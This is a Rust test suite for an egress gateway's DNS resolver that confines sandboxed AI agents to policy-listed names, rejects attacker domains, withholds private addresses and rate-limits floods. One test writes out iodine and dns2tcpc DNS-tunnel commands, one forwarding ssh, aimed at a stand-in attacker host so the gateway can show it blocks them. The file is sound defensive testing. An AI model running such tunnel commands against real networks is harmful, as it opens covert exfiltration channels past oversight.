//! The agents' resolver: whatever they ask, and whomever, the gateway answers, and no name that
//! policy does not list is on the wire to the internet.

use std::{
    io::{self, Read as _, Write as _},
    net::{IpAddr, SocketAddr, UdpSocket},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use hickory_proto::{
    op::{Edns, Message, MessageType, OpCode, Query, ResponseCode},
    rr::{Name, RData, RecordType, rdata::opt::EdnsOption},
};
use lab::{
    client::{agent, succeed},
    dns::{Answer, Dns},
    gateway,
    net::{
        AGENT, AGENT2, ATTACKER, CDN, GATEWAY, GATEWAY_V4, GATEWAY_V6, INTERNET, Ns, OPENAI, OTHER,
        PYPI, VAULT,
    },
    sandboxed, wait,
};

use crate::world::{TICKET, World, get};

/// Resolvers that agents like to ask: the gateway, the one it asks itself, and everybody else's.
fn resolvers() -> Vec<SocketAddr> {
    let foreign = ["8.8.8.8", "10.1.2.3", "169.254.169.254", "2001:4860:4860::8888", "fd00::53"];
    let foreign = foreign.map(|address| address.parse().expect("an address"));
    let known: [IpAddr; 7] = [
        GATEWAY_V4.into(),
        GATEWAY_V6.into(),
        Dns::address().ip(),
        ATTACKER.v4().into(),
        ATTACKER.v6().into(),
        VAULT.into(),
        [203, 0, 113, 2].into(),
    ];
    known.into_iter().chain(foreign).map(|address| SocketAddr::new(address, 53)).collect()
}

fn query(name: &str, kind: RecordType) -> Message {
    let mut message = Message::new(rand(), MessageType::Query, OpCode::Query);
    message.metadata.recursion_desired = true;
    let mut name = Name::from_ascii(name).expect("a name");
    name.set_fqdn(true);
    message.add_query(Query::query(name, kind));
    let mut edns = Edns::new();
    edns.set_max_payload(1232);
    message.set_edns(edns);
    message
}

/// A number that no two queries share by chance.
fn rand() -> u16 {
    use std::hash::{BuildHasher as _, Hasher as _};
    std::collections::hash_map::RandomState::new().build_hasher().finish() as u16
}

/// A socket that takes answers only from the address that was asked.
fn socket(from: Ns, server: SocketAddr) -> UdpSocket {
    from.enter(|| {
        let any = if server.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
        let socket = UdpSocket::bind(any).expect("a socket");
        socket.connect(server).expect("a route");
        socket.set_read_timeout(Some(Duration::from_secs(8))).expect("a timeout");
        socket
    })
}

fn ask_udp(from: Ns, server: SocketAddr, message: &Message) -> io::Result<Message> {
    let socket = socket(from, server);
    socket.send(&message.to_vec().expect("a message"))?;
    let mut buffer = [0; 4096];
    let length = socket.recv(&mut buffer)?;
    read(message, &buffer[..length])
}

fn ask_tcp(from: Ns, server: SocketAddr, message: &Message) -> io::Result<Message> {
    let mut stream = from.connect(server)?;
    stream.write_all(&framed(message))?;
    read(message, &unframed(&mut stream)?)
}

fn framed(message: &Message) -> Vec<u8> {
    let bytes = message.to_vec().expect("a message");
    let length = u16::try_from(bytes.len()).expect("short");
    [length.to_be_bytes().as_slice(), &bytes].concat()
}

fn unframed(stream: &mut impl io::Read) -> io::Result<Vec<u8>> {
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut bytes = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut bytes)?;
    Ok(bytes)
}

fn read(asked: &Message, bytes: &[u8]) -> io::Result<Message> {
    let answer = Message::from_vec(bytes).map_err(io::Error::other)?;
    assert_eq!(answer.metadata.id, asked.metadata.id);
    assert_eq!(answer.metadata.message_type, MessageType::Response);
    Ok(answer)
}

#[track_caller]
fn ask(server: SocketAddr, name: &str, kind: RecordType) -> Message {
    ask_udp(AGENT, server, &query(name, kind)).unwrap_or_else(|error| {
        panic!("no answer from {server} to {name} {kind}: {error}");
    })
}

fn addresses(answer: &Message) -> Vec<IpAddr> {
    let address = |data: &RData| match data {
        RData::A(v4) => Some(IpAddr::from(v4.0)),
        RData::AAAA(v6) => Some(IpAddr::from(v6.0)),
        _ => None,
    };
    answer.answers.iter().filter_map(|record| address(&record.data)).collect()
}

fn code(answer: &Message) -> ResponseCode {
    answer.metadata.response_code
}

/// The usual policy, with so many queries a second for each agent.
fn config(rate: u32) -> String {
    format!("{}\n[limits]\ndns_rate = {rate}\n", gateway::usual_config())
}

/// The resolver that most tests ask.
fn anywhere() -> SocketAddr {
    resolvers()[7]
}

#[test]
fn listed_names_resolve_whatever_resolver_an_agent_asks() {
    sandboxed(|| {
        let _world = World::with(&config(10_000));
        for server in resolvers() {
            for ask in [ask_udp, ask_tcp] {
                for (kind, address) in [
                    (RecordType::A, IpAddr::from(OPENAI.v4())),
                    (RecordType::AAAA, IpAddr::from(OPENAI.v6())),
                ] {
                    let query = query("aPi.OpenAI.example.", kind);
                    let answer = ask(AGENT, server, &query)
                        .unwrap_or_else(|error| panic!("{server} {kind}: {error}"));
                    assert_eq!(addresses(&answer), [address], "{server}");
                    assert_eq!(answer.queries, query.queries);
                    assert_eq!(answer.queries[0].name().to_ascii(), "aPi.OpenAI.example.");
                    assert_eq!(answer.answers[0].ttl, 1, "the lab's are 0");
                }
            }
        }
        assert_eq!(addresses(&ask(anywhere(), CDN.name, RecordType::A)), [IpAddr::from(CDN.v4())]);
        let https = ask(anywhere(), PYPI.name, RecordType::HTTPS);
        assert_eq!((code(&https), https.answers.len()), (ResponseCode::NoError, 0));
    });
}

#[test]
fn a_group_resolves_the_names_of_its_own_rules_only() {
    sandboxed(|| {
        let world = World::usual();
        let message = query(PYPI.name, RecordType::A);
        let answer = ask_udp(AGENT2, anywhere(), &message).expect("an answer");
        assert_eq!(code(&answer), ResponseCode::NXDomain);
        assert!(!world.dns.was_asked(PYPI.name));
        let message = query(OPENAI.name, RecordType::A);
        let answer = ask_udp(AGENT2, anywhere(), &message).expect("an answer");
        assert_eq!(addresses(&answer), [IpAddr::from(OPENAI.v4())]);
        let record = world.gateway.audit.wait_reason("dns_denied");
        assert_eq!(record["record"], "dns");
        assert_eq!(record["group"], "operations");
        assert_eq!(record["name"], "pypi.example.");
        assert_eq!(record["type"], "A");
        assert_eq!(record["server"], anywhere().ip().to_string());
    });
}

#[test]
fn a_thousand_names_of_the_attackers_leave_no_packet_on_the_wan() {
    sandboxed(|| {
        let world = World::with(&config(100_000));
        let wan = world.lab.capture(INTERNET);
        let kinds = [
            RecordType::A,
            RecordType::AAAA,
            RecordType::TXT,
            RecordType::NULL,
            RecordType::CNAME,
            RecordType::MX,
            RecordType::SRV,
            RecordType::HTTPS,
            RecordType::ANY,
            RecordType::AXFR,
        ];
        let servers = resolvers();
        for number in 0..1_000 {
            let label = format!("{:04x}{number:04x}", rand());
            let zone = [ATTACKER.name, "attacker.pypi.example", "pypi.example.attacker.example"];
            let name = format!("{label}.{}", zone[number % zone.len()]);
            let kind = kinds[number % kinds.len()];
            let server = servers[number % servers.len()];
            let asked = if number % 20 == 0 { ask_tcp } else { ask_udp };
            let answer = asked(AGENT, server, &query(&name, kind))
                .unwrap_or_else(|error| panic!("{server} {name} {kind}: {error}"));
            let expected = match kind {
                RecordType::A | RecordType::AAAA | RecordType::HTTPS => ResponseCode::NXDomain,
                _ => ResponseCode::Refused,
            };
            assert_eq!(code(&answer), expected, "{name} {kind}");
            let info = answer.edns.as_ref().and_then(|edns| edns.option(15.into()));
            let Some(EdnsOption::Unknown(_, info)) = info else { panic!("no extended error") };
            assert_eq!(
                info[..2],
                if expected == ResponseCode::NXDomain { [0, 15] } else { [0, 21] }
            );
        }
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
        // The capture sees what there is to see.
        ask(anywhere(), OPENAI.name, RecordType::A);
        assert!(wan.holds("openai"));
        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
    });
}

#[test]
fn tunnels_over_dns_find_nothing_to_ride_on() {
    sandboxed(|| {
        let world = World::with(&config(10_000));
        let wan = world.lab.capture(INTERNET);
        let server = ATTACKER.v4().to_string();
        let lines = [
            format!("iodine -f -r -P secret {server} t.attacker.example"),
            format!("iodine -f -r -P secret -T NULL -O raw {server} t.attacker.example"),
            "iodine -f -r -P secret -T TXT 2001:db8:f::53 t.attacker.example".to_owned(),
            format!("dns2tcpc -c -z t.attacker.example -r ssh -l 2222 {server}"),
            format!("dns2tcpc -c -k key -z t.attacker.example {server}"),
        ];
        let mut running = Vec::new();
        for line in lines {
            let program = line.split(' ').next().expect("a program");
            if !installed(program) {
                println!("skipped: {program} is missing; tests/prerequisites installs it");
                continue;
            }
            let mut command = AGENT.command("sh");
            command.args(["-c", &format!("exec {line}")]);
            running.push((line, command.stdout(Stdio::null()).stderr(Stdio::null()).spawn()));
        }
        std::thread::sleep(Duration::from_secs(6));
        for (line, child) in running {
            let mut child = child.unwrap_or_else(|error| panic!("{line}: {error}"));
            // It may have given up by itself.
            let _ = child.kill();
            let _ = child.wait();
        }
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
        if installed("dns2tcpc") {
            world.gateway.audit.wait_for(|record| {
                record["record"] == "dns"
                    && record["name"].as_str().is_some_and(|name| name.contains("attacker"))
            });
        }
    });
}

fn installed(program: &str) -> bool {
    let line = format!("PATH=$PATH:/usr/sbin:/sbin command -v {program}");
    Command::new("sh")
        .args(["-c", &line])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|it| it.success())
}

#[test]
fn private_answers_are_withheld() {
    sandboxed(|| {
        let world = World::with(&config(10_000));
        let inside = [
            "127.0.0.1",
            "0.0.0.0",
            "10.9.9.9",
            "192.168.9.9",
            "100.64.0.9",
            "169.254.169.254",
            "224.0.0.1",
            "192.0.2.1",
            "203.0.113.2",
            "::",
            "::1",
            "::ffff:127.0.0.1",
            "64:ff9b::a9fe:a9fe",
            "2002:7f00:1::",
            "fd00::9",
            "fe80::1",
            "2001:db8:a::1",
            "2001:db8:f::2",
        ];
        for text in inside {
            let address: IpAddr = text.parse().expect("an address");
            let kind = if address.is_ipv4() { RecordType::A } else { RecordType::AAAA };
            world.dns.set(PYPI.name, &[address]);
            let answer = ask(anywhere(), PYPI.name, kind);
            assert_eq!(
                (code(&answer), addresses(&answer)),
                (ResponseCode::NoError, vec![]),
                "{text}"
            );
            world.dns.set(PYPI.name, &[address, PYPI.v4().into(), PYPI.v6().into()]);
            let answer = ask(anywhere(), PYPI.name, kind);
            assert_eq!(addresses(&answer).len(), 1, "{text}: {:?}", addresses(&answer));
            assert!(!addresses(&answer).contains(&address), "{text}");
        }
        let record = world.gateway.audit.wait_reason("private_address");
        assert_eq!(record["record"], "dns");
    });
}

#[test]
fn what_does_not_resolve_is_told_in_time() {
    sandboxed(|| {
        let world = World::usual();
        for (answer, expected) in [
            (Answer::Addresses(Vec::new()), ResponseCode::NoError),
            (Answer::Fails, ResponseCode::ServFail),
            (Answer::Silent, ResponseCode::ServFail),
        ] {
            world.dns.script(PYPI.name, answer.clone());
            let begun = Instant::now();
            let told = ask(anywhere(), PYPI.name, RecordType::A);
            assert_eq!((code(&told), told.answers.len()), (expected, 0), "{answer:?}");
            assert!(begun.elapsed() < Duration::from_secs(5), "{answer:?}");
        }
        let unknown = ask(anywhere(), "unknown.cdn.example", RecordType::A);
        assert_eq!(code(&unknown), ResponseCode::NXDomain);
    });
}

#[test]
fn one_question_upstream_serves_the_agents_and_the_gateway() {
    sandboxed(|| {
        let world = World::usual();
        world.dns.set_ttl(60);
        for _ in 0..20 {
            let answer = ask(anywhere(), OPENAI.name, RecordType::A);
            assert!((50..=60).contains(&answer.answers[0].ttl), "{}", answer.answers[0].ttl);
            ask(anywhere(), OPENAI.name, RecordType::AAAA);
        }
        assert_eq!(world.ask(&get(&[TICKET])).status, 200);
        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
    });
}

#[test]
fn malformed_messages_leave_the_resolver_serving() {
    sandboxed(|| {
        let mut world = World::with(&config(100_000));
        let good = query(OPENAI.name, RecordType::A).to_vec().expect("a message");
        let sink = socket(AGENT, anywhere());
        for length in 0..good.len() {
            sink.send(&good[..length]).expect("sent");
            for value in [0, 0xc0, 0xff] {
                let mut changed = good.clone();
                changed[length] = value;
                sink.send(&changed).expect("sent");
            }
        }
        for length in 0..1_400 {
            let random: Vec<u8> = (0..length).map(|_| rand() as u8).collect();
            if length % 7 == 0 {
                sink.send(&random).expect("sent");
            }
        }
        for length in [0, 1, 11, 12, 13, good.len() - 1] {
            let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
            let announced = u16::try_from(good.len()).expect("short").to_be_bytes();
            stream.write_all(&announced).expect("sent");
            stream.write_all(&good[..length]).expect("sent");
            drop(stream);
        }
        let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
        stream.write_all(&[0xff; 64 * 1024]).ok();
        assert_eq!(stream.read(&mut [0; 16]).unwrap_or(0), 0, "too long");
        for server in resolvers() {
            for ask in [ask_udp, ask_tcp] {
                let answer = ask(AGENT, server, &query(OPENAI.name, RecordType::A));
                assert_eq!(addresses(&answer.expect("an answer")).len(), 1);
            }
        }
        assert!(world.gateway.is_alive());
        assert!(!world.gateway.stderr().contains("panicked"), "{}", world.gateway.stderr());
    });
}

#[test]
fn an_answer_is_never_answered() {
    sandboxed(|| {
        let _world = World::usual();
        let socket = socket(AGENT, anywhere());
        socket.set_read_timeout(Some(wait::QUIET)).expect("a timeout");
        let mut answer = query(OPENAI.name, RecordType::A);
        answer.metadata.message_type = MessageType::Response;
        socket.send(&answer.to_vec().expect("a message")).expect("sent");
        socket.recv(&mut [0; 512]).expect_err("a loop");
    });
}

#[test]
fn queries_in_a_stream_are_answered_in_their_order() {
    sandboxed(|| {
        let _world = World::usual();
        let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
        let names = [OPENAI.name, "no.attacker.example", CDN.name, PYPI.name];
        let queries = names.map(|name| query(name, RecordType::A));
        let all: Vec<u8> = queries.iter().flat_map(framed).collect();
        for byte in &all[..20] {
            stream.write_all(&[*byte]).expect("sent");
        }
        stream.write_all(&all[20..]).expect("sent");
        for query in &queries {
            let answer = read(query, &unframed(&mut stream).expect("an answer")).expect("DNS");
            assert_eq!(answer.queries, query.queries);
        }
    });
}

#[test]
fn an_agent_that_asks_too_much_is_slowed_down_alone() {
    sandboxed(|| {
        let world = World::with(&config(50));
        let held: Vec<_> = (0..60).filter_map(|_| AGENT.connect(anywhere()).ok()).collect();
        let message = query("a.attacker.example", RecordType::A).to_vec().expect("a message");
        let floods: Vec<_> = resolvers().into_iter().map(|to| socket(AGENT, to)).collect();
        let stop = std::sync::atomic::AtomicBool::new(false);
        let (mut served, mut slowest) = (0, Duration::ZERO);
        std::thread::scope(|scope| {
            for flood in &floods[..2] {
                scope.spawn(|| {
                    while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                        // Its own queue may be full, which is the flood at its most.
                        let _ = flood.send(&message);
                    }
                });
            }
            for number in 0..60 {
                let begun = Instant::now();
                let asked = if number % 10 == 0 { ask_tcp } else { ask_udp };
                let answer = asked(AGENT2, anywhere(), &query(OPENAI.name, RecordType::A));
                served += usize::from(answer.is_ok_and(|answer| !addresses(&answer).is_empty()));
                slowest = slowest.max(begun.elapsed());
                std::thread::sleep(Duration::from_millis(30));
            }
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
        });
        assert_eq!(served, 60, "the other agent is served; slowest {slowest:?}");
        assert!(slowest < Duration::from_secs(2), "{slowest:?}");
        let record = world.gateway.audit.wait_reason("dns_rate");
        assert_eq!(record["record"], "dns_summary");
        assert_eq!(record["group"], "research");
        assert!(record["limited"].as_u64() > Some(1_000), "{record}");
        let of_their_own =
            world.gateway.audit.records().iter().filter(|it| it["record"] == "dns").count();
        assert!(of_their_own < 400, "{of_their_own} records");
        drop(held);
    });
}

#[test]
fn curl_works_with_any_resolver_and_no_hosts_file() {
    sandboxed(|| {
        let world = World::usual();
        world.lab.names(&[]);
        for (server, family) in [("8.8.8.8", "-4"), ("192.0.2.1", "-6"), ("2001:db8:a::1", "-4")] {
            world.lab.write("resolv.conf", format!("nameserver {server}\noptions timeout:3\n"));
            let mut curl = agent(&world.lab, AGENT, "curl");
            curl.args(["-sS", family, "--fail", "--max-time", "10", "-H", TICKET]);
            succeed(curl.arg("https://api.openai.example/v1/models"));
            let mut curl = agent(&world.lab, AGENT, "curl");
            curl.args(["-sS", family, "--fail", "--max-time", "10"]);
            succeed(curl.arg("https://pypi.example/"));
        }
        let python = "import socket; print(socket.getaddrinfo('files.cdn.example', 443))";
        let printed = succeed(agent(&world.lab, AGENT, "python3").args(["-c", python]));
        assert!(printed.contains(&CDN.v4().to_string()) && printed.contains(&CDN.v6().to_string()));
        let python = "import socket\ntry: socket.getaddrinfo('attacker.example', 443)\n\
                      except socket.gaierror as error: print(error.errno == socket.EAI_NONAME)";
        let printed = succeed(agent(&world.lab, AGENT, "python3").args(["-c", python]));
        assert_eq!(printed.trim(), "True", "at once, and for good");
        assert!(!world.dns.was_asked(ATTACKER.name));
    });
}

#[test]
fn a_dead_daemon_answers_no_name_and_passes_no_query() {
    sandboxed(|| {
        let mut world = World::usual();
        ask(anywhere(), OPENAI.name, RecordType::A);
        let before = world.dns.asked().len();
        let wan = world.lab.capture(INTERNET);
        world.gateway.kill();
        for server in resolvers() {
            let begun = Instant::now();
            let message = query("dead.attacker.example", RecordType::A);
            ask_udp(AGENT, server, &message).expect_err("nobody is there");
            ask_tcp(AGENT, server, &message).expect_err("nobody is there");
            assert!(begun.elapsed() < Duration::from_secs(2), "{server} is not refused at once");
        }
        assert_eq!(world.dns.asked().len(), before);
        assert!(!wan.holds("attacker"));
    });
}

#[test]
fn a_reload_changes_which_names_there_are() {
    sandboxed(|| {
        let world = World::usual();
        assert_eq!(code(&ask(anywhere(), OTHER.name, RecordType::A)), ResponseCode::NXDomain);
        let wider = gateway::usual_config().replace("\"pypi.example\"", "\"other.example\"");
        gateway::install(&world.lab, &wider);
        world.gateway.reload();
        wait::expect("the new name resolves", || {
            code(&ask(anywhere(), OTHER.name, RecordType::A)) == ResponseCode::NoError
        });
        assert_eq!(code(&ask(anywhere(), PYPI.name, RecordType::A)), ResponseCode::NXDomain);
    });
}

#[test]
fn no_other_program_is_reached_on_port_53() {
    sandboxed(|| {
        let _world = World::usual();
        // A resolver of the gateway's own, on loopback, is not in the way and not in reach.
        let own = GATEWAY.enter(|| UdpSocket::bind("127.0.0.1:53"));
        drop(own);
        AGENT.connect(SocketAddr::from((GATEWAY_V4, 5353))).expect_err("not DNS");
        let answer = ask(SocketAddr::from((GATEWAY_V4, 53)), OPENAI.name, RecordType::A);
        assert_eq!(addresses(&answer).len(), 1);
    });
}

#[test]
fn a_spliced_name_is_reached_at_its_own_addresses_only() {
    sandboxed(|| {
        let world = World::usual();
        let http = "GET / HTTP/1.1\r\nHost: pypi.example\r\n\r\n";
        let spliced = |to: SocketAddr| world.h1_from(AGENT, to, PYPI.name);
        for to in [ATTACKER.port(443), ATTACKER.port6(443), OTHER.port(443)] {
            spliced(to).map(drop).expect_err("not an address of that name");
        }
        wait::expect("a record for each", || world.connections().len() == 3);
        for record in world.connections() {
            assert_eq!(record["reason"], "dialled_elsewhere", "{record}");
            assert_eq!(record["decision"], "refuse");
            assert_eq!(record.get("upstream"), None);
        }
        world.origin.log().assert_untouched();
        for to in [PYPI.port(443), PYPI.port6(443)] {
            assert_eq!(spliced(to).expect("its own").ask(http).expect("an answer").status, 200);
        }
        // What was answered stays good while it may be in use, also after the name has moved on.
        ask(anywhere(), PYPI.name, RecordType::A);
        world.dns.set(PYPI.name, &[CDN.v4().into()]);
        spliced(PYPI.port6(443)).map(drop).expect_err("never answered to this agent");
        let moved = spliced(PYPI.port(443)).map(drop);
        let record = world.gateway.audit.wait_for(|it| it["upstream"] == CDN.v4().to_string());
        assert_eq!(record["decision"], "splice", "{moved:?}");
        assert_eq!(record.get("reason"), None, "{record}");
    });
}

#[test]
fn an_intercepted_name_dialled_elsewhere_is_recorded_and_served_by_name() {
    sandboxed(|| {
        let world = World::usual();
        let mut tls = world.h1_from(AGENT, ATTACKER.port(443), OPENAI.name).expect("a connection");
        assert_eq!(tls.ask(get(&[TICKET])).expect("an answer").status, 200);
        drop(tls);
        let record = world.gateway.audit.wait_for(|it| it["record"] == "connection");
        assert_eq!(record["decision"], "intercept");
        assert_eq!(record["reason"], "dialled_elsewhere");
        assert_eq!(record["upstream"], OPENAI.v4().to_string());
    });
}

#[test]
fn a_rule_may_take_its_names_at_any_address() {
    sandboxed(|| {
        let config = gateway::usual_config()
            .replace("\"*.cdn.example\"]", "\"*.cdn.example\"]\ndialled = \"any\"");
        let world = World::with(&config);
        let mut tls = world.h1_from(AGENT, ATTACKER.port(443), PYPI.name).expect("a connection");
        let answer = tls.ask("GET / HTTP/1.1\r\nHost: pypi.example\r\n\r\n").expect("an answer");
        assert_eq!(answer.status, 200);
        drop(tls);
        let record = world.gateway.audit.wait_for(|it| it["record"] == "connection");
        assert_eq!(record["decision"], "splice");
        assert_eq!(record["reason"], "dialled_elsewhere");
        assert_eq!(record["upstream"], PYPI.v4().to_string(), "never where the agent pointed");
    });
}
